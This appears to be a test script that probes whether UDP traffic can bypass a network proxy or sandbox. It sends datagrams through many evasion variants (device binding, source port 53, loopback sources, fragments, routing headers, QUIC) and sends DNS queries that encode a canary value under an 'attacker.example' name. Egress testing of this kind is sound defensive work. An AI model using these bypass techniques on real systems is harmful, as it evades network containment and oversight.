"""Datagrams past the proxy: datagram.py FAMILY DESTINATION PORTS VARIANT"""

import socket
import struct
import sys

from common import *

IP_PKTINFO, IP_UNICAST_IF, IPV6_UNICAST_IF, UDP_SEGMENT = 8, 50, 76, 103
MSG_CONFIRM, MSG_MORE = 0x800, 0x8000

number, destination, ports, variant = sys.argv[1:5]
family = family_of(number)
address = DESTINATIONS[(destination, int(number))]
level = socket.IPPROTO_IP if family == socket.AF_INET else socket.IPPROTO_IPV6
any_address = "0.0.0.0" if family == socket.AF_INET else "::"
loopback = "127.0.0.1" if family == socket.AF_INET else "::1"


def quic_initial():
    """The long header of a QUIC v1 Initial (RFC 9000 17.2.2), padded to the 1,200 bytes a server insists on."""
    connection_id = BYTES[:20]
    header = b"\xc3\0\0\0\1" + bytes([len(connection_id)]) + connection_id + b"\0" + bytes([len(BYTES)]) + BYTES
    return (header + struct.pack("!H", 0x4000 | 1100) + b"\0" * 1200)[:1200]


def payload(port):
    if port in (53, 5353, 5355):
        return dns_query(dns_name(CANARY, "attacker", "example"))
    if variant == "quic":
        return quic_initial()
    return BYTES


def new_socket():
    protocol = 136 if variant == "udplite" else 0
    sock = socket.socket(family, socket.SOCK_DGRAM, protocol)
    if family == socket.AF_INET:
        sock.setsockopt(socket.SOL_SOCKET, socket.SO_BROADCAST, 1)
    else:
        sock.setsockopt(level, socket.IPV6_V6ONLY, 1)
    return sock


def own_address(target):
    with socket.socket(family, socket.SOCK_DGRAM) as sock:
        sock.connect(target)
        return sock.getsockname()[0]


def send(index, device, port):
    with new_socket() as sock:
        target = scoped(address, port, index)
        data = payload(port)
        if destination in ("group", "mdns", "all-nodes", "broadcast", "subnet-broadcast"):
            if family == socket.AF_INET6:
                sock.setsockopt(level, socket.IPV6_MULTICAST_IF, index)
                sock.setsockopt(level, socket.IPV6_MULTICAST_HOPS, 8)
            else:
                sock.setsockopt(level, socket.IP_MULTICAST_IF, struct.pack("=4s4si", b"\0" * 4, b"\0" * 4, index))
        if variant == "bind-device":
            sock.setsockopt(socket.SOL_SOCKET, socket.SO_BINDTODEVICE, device.encode())
        elif variant == "unicast-if":
            sock.setsockopt(level, IP_UNICAST_IF if family == socket.AF_INET else IPV6_UNICAST_IF, struct.pack("!I", index))
        elif variant == "source-53":
            sock.bind((any_address, 53))
        elif variant == "source-listener":
            sock.bind((own_address(target), 15001 if port == 53 else 15053))
        elif variant == "loopback-source":
            sock.bind((loopback, 0))
        elif variant == "dontroute":
            sock.setsockopt(socket.SOL_SOCKET, socket.SO_DONTROUTE, 1)
        elif variant == "options":
            record_route = b"\x07\x0b\x04" + b"\0" * 8 + b"\0"
            sock.setsockopt(level, socket.IP_OPTIONS, record_route)
        elif variant == "segments":
            sock.setsockopt(socket.IPPROTO_UDP, UDP_SEGMENT, 64)
            data = BYTES.ljust(64, b".") * 8
        elif variant == "fragments":
            data = BYTES * 900
        elif variant == "priority":
            sock.setsockopt(socket.SOL_SOCKET, socket.SO_PRIORITY, 6)
            sock.setsockopt(level, socket.IP_TOS if family == socket.AF_INET else socket.IPV6_TCLASS, 0x10)

        if variant == "pktinfo":
            if family == socket.AF_INET:
                info = (level, IP_PKTINFO, struct.pack("=i4s4s", index, b"\0" * 4, b"\0" * 4))
            else:
                info = (level, socket.IPV6_PKTINFO, b"\0" * 16 + struct.pack("=I", index))
            sock.sendmsg([data], [info], 0, target)
        elif variant == "confirm":
            sock.sendto(data, MSG_CONFIRM, target)
        elif variant == "corked":
            sock.connect(target)
            sock.send(data, MSG_MORE)
            sock.send(b"end")
        elif variant == "connected":
            sock.connect(target)
            sock.send(data)
        elif variant == "routing-header":
            segments = socket.inet_pton(socket.AF_INET6, address)
            sock.setsockopt(level, socket.IPV6_RTHDR, struct.pack("!BBBBBBH", 0, 2, 4, 0, 0, 0, 0) + segments)
            sock.sendto(data, target)
        else:
            sock.sendto(data, target)


for port in (int(p) if p != "own" else PORT for p in ports.split(",")):
    for index, device in interfaces():
        attempt(f"{device} {address}:{port}", lambda: send(index, device, port))
finish()
